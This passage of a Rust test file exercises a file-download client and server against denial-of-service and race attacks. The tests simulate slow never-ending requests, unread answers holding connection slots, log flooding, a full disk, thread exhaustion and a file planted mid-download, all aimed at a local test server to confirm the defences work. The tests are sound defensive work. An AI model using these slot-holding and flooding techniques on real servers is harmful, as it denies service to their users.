    fs::set_permissions(out.path(), fs::Permissions::from_mode(0o555)).unwrap();
    let (addr, _, liar) = liar(|mut stream| {
        let _ = stream.write_all(b"OK 5 0 v\nhello");
    });
    let cmd = if rustix::process::geteuid().is_root() {
        let mut cmd = Command::new("setpriv");
        cmd.args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
            .arg(env!("CARGO_BIN_EXE_file-download"));
        cmd
    } else {
        bin()
    };
    let (code, _, stderr) = client_cmd(cmd, out.path(), addr, &["get", "x.bin"]);
    liar.join().unwrap();
    assert_eq!(code, Some(1), "{stderr}");
    assert!(
        stderr.contains("cannot create x.bin.part: Permission denied"),
        "{stderr}"
    );
    assert!(stderr.contains("hint: you may not write there"), "{stderr}");
    assert!(!stderr.contains("ports below 1024"), "{stderr}");
}

/// A listing of `notes.txt` and six names that are `notes.txt` and a blank (a space, U+00A0,
/// U+1680, U+2007, U+2800, U+3000): all seven read `notes.txt` on a terminal, the blank at the
/// end invisible. The blanks at a name's ends are now shown escaped: seven different lines.
#[test]
fn names_that_differ_only_by_a_blank_at_the_end_are_told_apart() {
    let out = tempfile::tempdir().unwrap();
    let blanks = [
        "", " ", "\u{a0}", "\u{1680}", "\u{2007}", "\u{2800}", "\u{3000}",
    ];
    let (addr, _, liar) = liar(move |mut stream| {
        let mut listing = String::from("OK\n");
        for b in blanks {
            listing.push_str(&format!("5 notes.txt{b}\n"));
        }
        listing.push_str("END 7\n");
        let _ = stream.write_all(listing.as_bytes());
    });
    let (code, stdout, stderr) = client(out.path(), addr, &["list"]);
    liar.join().unwrap();
    assert_eq!(code, Some(0), "{stderr}");
    // As a terminal shows them: what ends a line in blanks shows as if it did not.
    let seen: std::collections::HashSet<_> = stdout
        .lines()
        .map(|line| line.trim_end_matches(|c: char| c.is_whitespace() || c == '\u{2800}'))
        .collect();
    assert_eq!(seen.len(), 7, "{stdout}");
}

/// Another user's `x.bin.part.version` in a shared directory with the sticky bit (`/tmp`):
/// the client may not remove it, and said only `error: Operation not permitted (os error 1)`,
/// naming no file, and left an empty `x.bin.part` (a planted `.part` with `--force` gave the
/// same bare error, after `discarding x.bin.part`). The error now names the file, with the
/// disk's hint, and nothing is left. As root only: the file is given to uid 1234, and the
/// client runs as nobody.
#[test]
fn another_users_file_that_cannot_be_removed_is_named() {
    if !rustix::process::geteuid().is_root() {
        eprintln!("skipped: chown and setpriv need root");
        return;
    }
    let out = tempfile::tempdir().unwrap();
    fs::set_permissions(out.path(), fs::Permissions::from_mode(0o1777)).unwrap();
    let planted = out.path().join("x.bin.part.version");
    fs::write(&planted, "1-2.000000003\n").unwrap();
    std::os::unix::fs::chown(&planted, Some(1234), Some(1234)).unwrap();
    let (addr, _, liar) = liar(|mut stream| {
        let _ = stream.write_all(b"OK 5 0 v\nhello");
    });
    let mut cmd = Command::new("setpriv");
    cmd.args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
        .arg(env!("CARGO_BIN_EXE_file-download"));
    let (code, _, stderr) = client_cmd(cmd, out.path(), addr, &["get", "x.bin"]);
    liar.join().unwrap();
    assert_eq!(code, Some(1), "{stderr}");
    assert!(
        stderr.contains("cannot remove x.bin.part.version: Operation not permitted"),
        "{stderr}"
    );
    assert!(stderr.contains("hint: you may not write there"), "{stderr}");
    assert!(!out.path().join("x.bin.part").exists(), "{stderr}");
}

/// The attack: the server's log is on a full disk (here /dev/full) and clients keep coming.
/// `println!` panics on the failed write: in a client's thread before the `ERR` was sent (the
/// client was cut off unanswered), and in the accept loop on a refusal, which ended the
/// server with status 101. Lines that cannot be written are now dropped and counted.
#[test]
fn a_full_disk_under_the_log_does_not_stop_the_server() {
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("a.txt"), "hello\n").unwrap();
    let (mut server, addr) = testkit::free_port::tcp_server_on_a_free_port(|port| {
        Command::new(env!("CARGO_BIN_EXE_file-download"))
            .args([
                "serve",
                "--port",
                &port.to_string(),
                "--max-per-address",
                "1",
            ])
            .arg("--root")
            .arg(dir.path())
            .stdout(testkit::full_disk::full())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap()
    });
    let ask = |request: &[u8]| {
        let mut stream = TcpStream::connect(addr).unwrap();
        stream
            .set_read_timeout(Some(Duration::from_secs(10)))
            .unwrap();
        let _ = stream.write_all(request);
        let mut answer = Vec::new();
        let _ = stream.read_to_end(&mut answer);
        answer
    };
    for _ in 0..5 {
        // A bad request: its ERR must still come.
        assert!(ask(b"HELLO\n").starts_with(b"ERR "));
        // Past --max-per-address: refused in the accept loop, with ERR busy.
        let mut held = TcpStream::connect(addr).unwrap();
        let busy = ask(b"LIST\n");
        if !busy.starts_with(b"ERR busy") {
            // The bad request's place was not given back yet: `held` was the one refused.
            held.set_read_timeout(Some(Duration::from_secs(10)))
                .unwrap();
            let mut refused = Vec::new();
            let _ = held.read_to_end(&mut refused);
            assert!(refused.starts_with(b"ERR busy"), "{refused:?} {busy:?}");
        }
        drop(held);
        thread::sleep(Duration::from_millis(50));
    }
    let (alive, said) = testkit::full_disk::stop(&mut server);
    assert!(alive, "the server exited: {said}");
    testkit::full_disk::said_once_it_drops_lines(&said);
}

/// The client's stdout is on a full disk (/dev/full). `println!` panicked at the last line,
/// `downloaded ...` (status 101 and a backtrace); `list` panicked at its first. A client
/// now stops with an error and status 1, and the file it downloaded is whole.
#[test]
fn a_full_disk_under_stdout_stops_the_client_with_an_error() -> Result<(), Failure> {
    let root = tempfile::tempdir().unwrap();
    let here = tempfile::tempdir().unwrap();
    fs::write(root.path().join("a.txt"), "hello\n").unwrap();
    let mut s = Scene::new();
    let (_server, addr) = serve(&mut s, root.path(), &[])?;
    for args in [&["get", "a.txt"][..], &["list"]] {
        let mut cmd = bin();
        cmd.args(args)
            .args(["--to", &addr.to_string(), "--timeout", "10"])
            .current_dir(here.path());
        let (code, said) = testkit::full_disk::run_client(cmd, b"", Duration::from_secs(20));
        testkit::full_disk::stopped_with_an_error(code, &said);
    }
    assert_eq!(fs::read(here.path().join("a.txt")).unwrap(), b"hello\n");
    Ok(())
}

/// Item 3: two places, both held by clients that make no progress (`sent` and never more, each
/// from its own address, reading nothing); a newcomer asks LIST until it is answered, within
/// 10 s, well under --request-timeout and --timeout (30 s), and the log says why a holder was
/// closed. Without eviction, every try was `ERR busy` for the whole 30 s.
fn two_held_then_a_newcomer(sent: &[u8], recv_buffer: Option<usize>, closed: &str) {
    let root = tempfile::tempdir().unwrap();
    // Sparse: 64 MiB that cost no disk, more than the socket buffers hold.
    fs::File::create(root.path().join("big.bin"))
        .unwrap()
        .set_len(64 << 20)
        .unwrap();
    let mut s = Scene::new();
    let flags = [
        "--max-clients",
        "2",
        "--request-timeout",
        "30",
        "--timeout",
        "30",
    ];
    let (p, addr) = serve(&mut s, root.path(), &flags).unwrap();
    let _held: Vec<TcpStream> = [2, 3]
        .into_iter()
        .map(|last| holding([127, 0, 0, last], addr, recv_buffer, sent).unwrap())
        .collect();
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let mut newcomer = TcpStream::connect(addr).unwrap();
        newcomer
            .set_read_timeout(Some(Duration::from_secs(10)))
            .unwrap();
        newcomer.write_all(b"LIST\n").unwrap();
        let mut answer = String::new();
        let _ = newcomer.read_to_string(&mut answer);
        if answer.starts_with("OK") {
            break;
        }
        assert_eq!(answer, "ERR busy\n");
        assert!(
            Instant::now() < deadline,
            "ERR busy for 10 s: nobody made room"
        );
        thread::sleep(Duration::from_millis(100));
    }
    // A holder had its place (so the newcomer was not answered by luck), and lost it for this.
    let line = s.expect(p, "to make room for 127.0.0.1").unwrap();
    assert!(line.contains(closed), "{line}");
}

/// Item 3: slow requests that never end (`GET 0 - b`, then nothing) hold no place against a
/// newcomer after a second (file-download's SLOW_REQUEST, as http-server's SLOW_HEAD).
#[test]
fn requests_that_never_end_make_room_for_a_newcomer() {
    two_held_then_a_newcomer(b"GET 0 - b", None, "no whole request from it");
}

/// Item 3: answers nobody reads (64 MiB asked, a 4 KiB receive buffer, nothing read) hold no
/// place against a newcomer after two seconds with nothing taken (STALLED_ANSWER).
#[test]
fn answers_nobody_reads_make_room_for_a_newcomer() {
    let request = b"GET 0 - big.bin\n";
    two_held_then_a_newcomer(request, Some(4096), "had taken nothing of the answer");
}

/// Item 3: a client being answered at its pace is never closed to make room: the only place
/// is its, for the 2.5 s of an 8 MiB download read 64 KiB every 20 ms, while newcomers ask
/// every 100 ms; they are told busy, and it gets every byte.
#[test]
fn a_client_being_answered_keeps_its_place() {
    let root = tempfile::tempdir().unwrap();
    fs::File::create(root.path().join("big.bin"))
        .unwrap()
        .set_len(8 << 20)
        .unwrap();
    let mut s = Scene::new();
    let (p, addr) = serve(
        &mut s,
        root.path(),
        &["--max-clients", "1", "--min-rate", "1K"],
    )
    .unwrap();
    let mut reader = TcpStream::connect(addr).unwrap();
    reader.write_all(b"GET 0 - big.bin\n").unwrap();
    reader
        .set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    let (done, finished) = mpsc::channel();
    let paced = thread::spawn(move || {
        let mut buf = vec![0u8; 64 * 1024];
        let mut got = 0;
        while let Ok(n @ 1..) = reader.read(&mut buf) {
            got += n;
            thread::sleep(Duration::from_millis(20));
        }
        let _ = done.send(());
        got
    });
    let mut busy = 0;
    while finished.try_recv().is_err() {
        let mut newcomer = TcpStream::connect(addr).unwrap();
        newcomer
            .set_read_timeout(Some(Duration::from_secs(10)))
            .unwrap();
        let _ = newcomer.write_all(b"LIST\n");
        let mut answer = String::new();
        let _ = newcomer.read_to_string(&mut answer);
        if answer == "ERR busy\n" {
            busy += 1;
        }
        thread::sleep(Duration::from_millis(100));
    }
    // The header line, then every byte of the file.
    let header = "OK 8388608 0 ".len();
    let got = paced.join().unwrap();
    assert!(
        got > (8 << 20) + header,
        "the download was cut at {got} bytes"
    );
    assert!(busy >= 10, "only {busy} newcomers were told busy");
    s.expect(p, "sent \"big.bin\"").unwrap();
}

/// A connection from `source` that has sent `sent`.
fn from(source: &str, addr: SocketAddr, sent: &[u8]) -> TcpStream {
    let source: std::net::Ipv4Addr = source.parse().unwrap();
    let stream = holding(source.octets(), addr, None, sent).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    stream
}

/// The first line of what `stream` is answered (empty if it was closed without one).
fn answer(mut stream: TcpStream) -> String {
    let mut answer = String::new();
    let _ = stream.read_to_string(&mut answer);
    answer.lines().next().unwrap_or("").to_string()
}

/// Item 3: an attacker that closes and reopens each of its connections before it is a second
/// old (SLOW_REQUEST) has no place old enough to be given away; a newcomer from an address
/// with no place still gets one of them at once (attack 5 row 1: 23 of 36 busy before).
#[test]
fn places_reopened_younger_than_a_second_still_make_room() {
    let root = tempfile::tempdir().unwrap();
    let mut s = Scene::new();
    let flags = ["--max-clients", "4", "--request-timeout", "30"];
    let (p, addr) = serve(&mut s, root.path(), &flags).unwrap();
    // Accepted in order: the four are in before the newcomer, well within a second.
    let _young: Vec<TcpStream> = ["127.0.0.2", "127.0.0.2", "127.0.0.3", "127.0.0.3"]
        .into_iter()
        .map(|source| from(source, addr, b"GET 0 - b"))
        .collect();
    let newcomer = from("127.0.0.1", addr, b"LIST\n");
    assert_eq!(answer(newcomer), "OK");
    let line = s.expect(p, "to make room for 127.0.0.1").unwrap();
    assert!(line.contains("no whole request from it"), "{line}");
}

/// Item 3: a person whose request takes longer than a second (a slow link) is not pushed out
/// by a newcomer from an address that holds more places than the person's one: the only
/// place old enough to go was the person's, given to the attacker (attack 5 row 2).
#[test]
fn a_slow_request_is_not_given_to_an_address_with_more_places() {
    let root = tempfile::tempdir().unwrap();
    let mut s = Scene::new();
    let flags = ["--max-clients", "3", "--request-timeout", "30"];
    let (p, addr) = serve(&mut s, root.path(), &flags).unwrap();
    let mut person = from("127.0.0.1", addr, b"LI");
    // The slow link: the rest of the request comes after more than a second.
    thread::sleep(Duration::from_millis(1200));
    let _young: Vec<TcpStream> = (0..2)
        .map(|_| from("127.0.0.2", addr, b"GET 0 - b"))
        .collect();
    let again = from("127.0.0.2", addr, b"GET 0 - b");
    assert_eq!(answer(again), "ERR busy");
    s.expect(p, "refused 127.0.0.2").unwrap();
    person.write_all(b"ST\n").unwrap();
    assert_eq!(answer(person), "OK");
}

/// Item 3: a client taking its answer at a steady pace slower than a third of the send buffer
/// a second (160 KiB/s, a 16 KiB receive buffer) is not "stalled": the server learns of its
/// progress only when its wait for room ends, a TICK (1 s) at most, so a newcomer arriving
/// just then found it idle for 1.0 s and took its place (attack 5 row 3: a 100 KiB/s reader
/// cut 4 times in 4 under the slow-request attack). STALLED_ANSWER is two TICKs.
#[test]
fn a_steady_slow_reader_keeps_its_place_against_a_stream_of_newcomers() {
    let root = tempfile::tempdir().unwrap();
    fs::write(root.path().join("mid.bin"), vec![7u8; 2 << 20]).unwrap();
    let mut s = Scene::new();
    let flags = ["--max-clients", "1", "--min-rate", "1K"];
    let (p, addr) = serve(&mut s, root.path(), &flags).unwrap();
    let mut reader = holding([127, 0, 0, 2], addr, Some(16 * 1024), b"GET 0 - mid.bin\n").unwrap();
    reader
        .set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    let (done, finished) = mpsc::channel();
    let paced = thread::spawn(move || {
        let mut buf = vec![0u8; 8 * 1024];
        let mut got = 0;
        while let Ok(n @ 1..) = reader.read(&mut buf) {
            got += n;
            thread::sleep(Duration::from_millis(50));
        }
        let _ = done.send(());
        got
    });
    // Newcomers as fast as they are refused, for the whole download (about 13 s).
    let mut busy = 0;
    while finished.try_recv().is_err() {
        let Ok(mut newcomer) = TcpStream::connect(addr) else {
            continue;
        };
        let _ = newcomer.set_read_timeout(Some(Duration::from_secs(10)));
        let _ = newcomer.write_all(b"LIST\n");
        let mut answer = String::new();
        let _ = newcomer.read_to_string(&mut answer);
        if answer == "ERR busy\n" {
            busy += 1;
        }
    }
    let header = "OK 2097152 0 ".len();
    let got = paced.join().unwrap();
    assert!(
        got > (2 << 20) + header,
        "the download was cut at {got} bytes"
    );
    assert!(busy >= 100, "only {busy} newcomers were told busy");
    s.expect(p, "sent \"mid.bin\"").unwrap();
}

/// Item 3: answers read just fast enough, above --min-rate and never stalled, from sixteen
/// addresses of sixteen connections each (lockout.py readers at 20 KiB/s), kept every place:
/// `ERR busy` 60 times in 60. Here two addresses hold the four places with answers read at
/// 160 KiB/s: an address holding two places more than the newcomer's gives one up.
#[test]
fn answers_read_just_fast_enough_from_a_rich_address_make_room() {
    let root = tempfile::tempdir().unwrap();
    fs::write(root.path().join("mid.bin"), vec![7u8; 3 << 20]).unwrap();
    let mut s = Scene::new();
    let flags = ["--max-clients", "4", "--min-rate", "1K", "--timeout", "30"];
    let (p, addr) = serve(&mut s, root.path(), &flags).unwrap();
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let readers: Vec<_> = [2, 2, 3, 3]
        .into_iter()
        .map(|last| {
            let request = b"GET 0 - mid.bin\n";
            let mut reader = holding([127, 0, 0, last], addr, Some(16 * 1024), request).unwrap();
            let stop = std::sync::Arc::clone(&stop);
            thread::spawn(move || {
                let mut buf = vec![0u8; 8 * 1024];
                while !stop.load(std::sync::atomic::Ordering::Relaxed)
                    && matches!(reader.read(&mut buf), Ok(1..))
                {
                    thread::sleep(Duration::from_millis(50));
                }
            })
        })
        .collect();
    let deadline = Instant::now() + Duration::from_secs(5);
    let mut served = false;
    while !served && Instant::now() < deadline {
        thread::sleep(Duration::from_millis(100));
        let mut newcomer = TcpStream::connect(addr).unwrap();
        newcomer
            .set_read_timeout(Some(Duration::from_secs(5)))
            .unwrap();
        newcomer.write_all(b"LIST\n").unwrap();
        let mut answer = String::new();
        let _ = newcomer.read_to_string(&mut answer);
        served = answer.starts_with("OK");
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    for reader in readers {
        let _ = reader.join();
    }
    assert!(
        served,
        "ERR busy for 5 s: no answer of a rich address made room"
    );
    // The transfer it cut is told within the address's share, on stdout: it was an `error:`
    // line on stderr, outside the share, for every place a newcomer took. Its thread and the
    // newcomer's print their lines in either order.
    let cut = "failed: closed to make room for a newcomer";
    let lines = s.expect_each(
        p,
        &["its address held two places more than the newcomer's", cut],
    );
    let lines = lines.unwrap();
    assert!(s.output(p, Stream::Stdout).contains(&lines[1]), "{lines:?}");
    let errors = s.output(p, Stream::Stderr);
    assert!(errors.is_empty(), "{errors:?}");
}

/// A server that sends its header line one byte every 0.4 s, each well within the client's
/// `--timeout 10`: with a timeout per read only, the 4,096 bytes a line may have would have
/// held the client for 27 minutes (the test gave up after 20 s). The line must come whole
/// within --timeout.
#[test]
fn a_header_trickled_a_byte_at_a_time_ends_after_the_timeout() {
    let out = tempfile::tempdir().unwrap();
    let trickle = |mut stream: &TcpStream| {
        for _ in 0..100 {
            if stream.write_all(b" ").is_err() {
                return;
            }
            thread::sleep(Duration::from_millis(400));
        }
    };
    let (addr, _, get_liar) = liar(move |stream| trickle(stream));
    let (addr2, _, list_liar) = liar(move |mut stream| {
        let _ = stream.write_all(b"OK\n1 a.txt\n");
        trickle(stream);
    });
    let started = Instant::now();
    let list = thread::spawn({
        let cwd = out.path().to_path_buf();
        move || client(&cwd, addr2, &["list"])
    });
    let (code, _, stderr) = client(out.path(), addr, &["get", "x.bin"]);
    assert_eq!(code, Some(1), "{stderr}");
    assert!(
        stderr.contains("error: no whole answer from the server within --timeout"),
        "{stderr}"
    );
    let (code, stdout, stderr) = list.join().unwrap();
    assert_eq!(code, Some(1), "{stderr}");
    assert_eq!(stdout, "1 a.txt\n");
    assert!(
        stderr.contains("error: the listing was cut short: not all of it within --timeout"),
        "{stderr}"
    );
    // Ten seconds, the --timeout, for the line; not the twenty the test allows.
    assert!(started.elapsed() < Duration::from_secs(19));
    get_liar.join().unwrap();
    list_liar.join().unwrap();
    assert!(
        files_in(out.path()).is_empty(),
        "{:?}",
        files_in(out.path())
    );
}

/// The server's stdout is a pipe that nobody reads (a terminal paused with Ctrl-S, `serve |
/// slow-program`). Each line was written at once, under stdout's lock: once the pipe's 64 KiB
/// were full, the thread writing waited, every other thread that logged waited behind it with
/// its place, and the accept loop with its `refused` line: no answer came for anyone after the
/// 912th request. The lines now go through the log's queue, which drops what it cannot write.
#[test]
fn a_log_nobody_reads_does_not_stop_the_server() {
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("a.txt"), "hello\n").unwrap();
    // Every place for one address: a server that keeps a connection open for a next request
    // (exercise file-download-2) holds a place until it has seen the close, and on a loaded
    // machine 16 closes not yet seen made the next request `ERR busy` (its limit, not the log,
    // which is what this test is about).
    let unread = testkit::unread_log::start(
        bin()
            .args(["serve", "--port", "0", "--max-per-address", "256"])
            .arg("--root")
            .arg(dir.path()),
    );
    let addr = unread.addr;
    // About 70 bytes of log each: 3000 requests make three pipes' worth.
    for i in 0..3000 {
        let mut stream = TcpStream::connect(addr).unwrap();
        stream
            .set_read_timeout(Some(Duration::from_secs(10)))
            .unwrap();
        stream.write_all(b"GET 0 - a.txt\n").unwrap();
        // The header line is the answer (a server that keeps the connection open for a next
        // request is answered all the same).
        let mut answer = Vec::new();
        let mut buf = [0u8; 256];
        while !answer.contains(&b'\n') {
            match stream.read(&mut buf) {
                Ok(0) | Err(_) => break,
                Ok(n) => answer.extend_from_slice(&buf[..n]),
            }
        }
        assert!(answer.starts_with(b"OK 6 0 "), "request {i}: {answer:?}");
    }
}

/// A long name logged in full: requests for a missing file whose 3,900-byte name is U+200B (a
/// zero-width space, 3 bytes, logged as `\\u{200b}`, 9) made the log three times what the
/// attacker sent (21 MB of requests, 64 MB of log in 5 s). The log now shows a name's first
/// `SHOWN_PER_CHUNK` bytes, as http-server shows a target.
#[test]
fn a_long_name_does_not_swell_the_log() -> Result<(), Failure> {
    let root = tempfile::tempdir().unwrap();
    let mut s = Scene::new();
    let (p, addr) = serve(&mut s, root.path(), &[])?;
    let request = format!("GET 0 - {}\n", "\u{200b}".repeat(1300));
    let mut sent = 0;
    for _ in 0..50 {
        let mut c = holding([127, 0, 0, 2], addr, None, request.as_bytes()).unwrap();
        c.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
        sent += request.len();
        let _ = c.read_to_end(&mut Vec::new());
    }
    // Lines come in the order of the requests' ends: once this one is seen, all before it are.
    let mut last = holding([127, 0, 0, 3], addr, None, b"GET 0 - last.txt\n").unwrap();
    last.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let _ = last.read_to_end(&mut Vec::new());
    s.expect(p, "\"last.txt\"")?;
    let logged: usize = (s.output(p, Stream::Stdout).iter())
        .filter(|l| l.contains("127.0.0.2:"))
        .map(|l| l.len() + 1)
        .sum();
    if logged * 4 > sent {
        return Err(s.fail(format!(
            "{logged} bytes of log for {sent} bytes of requests"
        )));
    }
    Ok(())
}

/// The attack: while a download runs, someone (another user of a shared directory, or a
/// second program) creates the file it will become. `get` checked before it began that the
/// name was free, and its final rename replaced their file. The rename now refuses
/// (`RENAME_NOREPLACE`): their file stays, the download stays in the `.part`, and the error
/// says both.
#[test]
fn a_file_made_at_the_name_during_the_download_is_not_replaced() {
    let out = tempfile::tempdir().unwrap();
    let target = out.path().join("notes.txt");
    let theirs = target.clone();
    let (addr, _request, liar) = liar(move |mut stream| {
        stream.write_all(b"OK 10 0 10-1.000000000\nfirst").unwrap();
        fs::write(&theirs, "theirs").unwrap();
        stream.write_all(b"-half").unwrap();
    });
    let (code, _, stderr) = client(out.path(), addr, &["get", "notes.txt"]);
    liar.join().unwrap();
    assert_eq!(code, Some(1), "{stderr}");
    assert!(
        stderr.contains("notes.txt appeared while downloading"),
        "{stderr}"
    );
    assert!(stderr.contains("hint: compare the two"), "{stderr}");
    assert_eq!(fs::read_to_string(&target).unwrap(), "theirs");
    assert_eq!(
        fs::read_to_string(out.path().join("notes.txt.part")).unwrap(),
        "first-half"
    );
}

/// The attack: clients that hold their connections open on a machine with no thread to spare
/// for the server's user (here `ulimit -u 3`: the server's main thread, its log's, and one
/// more). `thread::spawn` panics when a thread cannot start, and the server exited with
/// status 101 at the second client held. That client is now refused, and once the holders
/// have gone the next client is served. As root (the limit does not hold for root, so the
/// server runs as `nobody`); skipped otherwise.
#[test]
fn a_thread_that_cannot_start_does_not_end_the_server() -> Result<(), Failure> {
    let root = tempfile::tempdir().unwrap();
    fs::set_permissions(root.path(), fs::Permissions::from_mode(0o755)).unwrap();
    fs::write(root.path().join("a.txt"), "hi\n").unwrap();
    let bin = Path::new(env!("CARGO_BIN_EXE_file-download"));
    let mut cmd = match testkit::fdlimit::with_thread_limit(3, bin) {
        Ok(cmd) => cmd,
        Err(why) => {
            eprintln!("skipped: {why}");
            return Ok(());
        }
    };
    cmd.arg("serve")
        .arg("--root")
        .arg(root.path())
        .args(["--port", "0"]);
    let mut s = Scene::new();
    let (server, addr) = s.start("serve", cmd)?;
    let first = TcpStream::connect(addr).unwrap();
    let second = TcpStream::connect(addr).unwrap();
    s.expect(server, "no thread could start for it")?;
    drop(second);
    // The first one's thread ends when it goes, and its thread is free again: the next
    // clients may still find it there, and be refused, but not for long.
    drop(first);
    let started = Instant::now();
    while started.elapsed() < Duration::from_secs(10) {
        let mut stream = TcpStream::connect(addr).unwrap();
        let _ = stream.write_all(b"LIST\n");
        let mut answer = String::new();
        let _ = stream.read_to_string(&mut answer);
        if answer.starts_with("OK") {
            return Ok(());
        }
    }
    Err(s.fail("for 10 s after the holders left, no client was served"))
}

/// A server that resets the connection instead of answering: the error told its cause twice,
/// `no answer from the server: Connection reset by peer (os error 104): Connection reset by
/// peer (os error 104)`. Once now, with the hint about resets.
#[test]
fn a_reset_instead_of_an_answer_is_told_once() {
    let (addr, _request, liar) = liar(|stream| {
        let linger = Some(Duration::ZERO);
        rustix::net::sockopt::set_socket_linger(stream, linger).unwrap();
    });
    let out = tempfile::tempdir().unwrap();
    let (code, _, stderr) = client(out.path(), addr, &["get", "x.bin"]);
    liar.join().unwrap();
    assert_eq!(code, Some(1), "{stderr}");
    assert_eq!(
        stderr.matches("Connection reset by peer").count(),
        1,
        "{stderr}"
    );
    assert!(
        stderr.contains("hint: the peer reset the connection"),
        "{stderr}"
    );
}
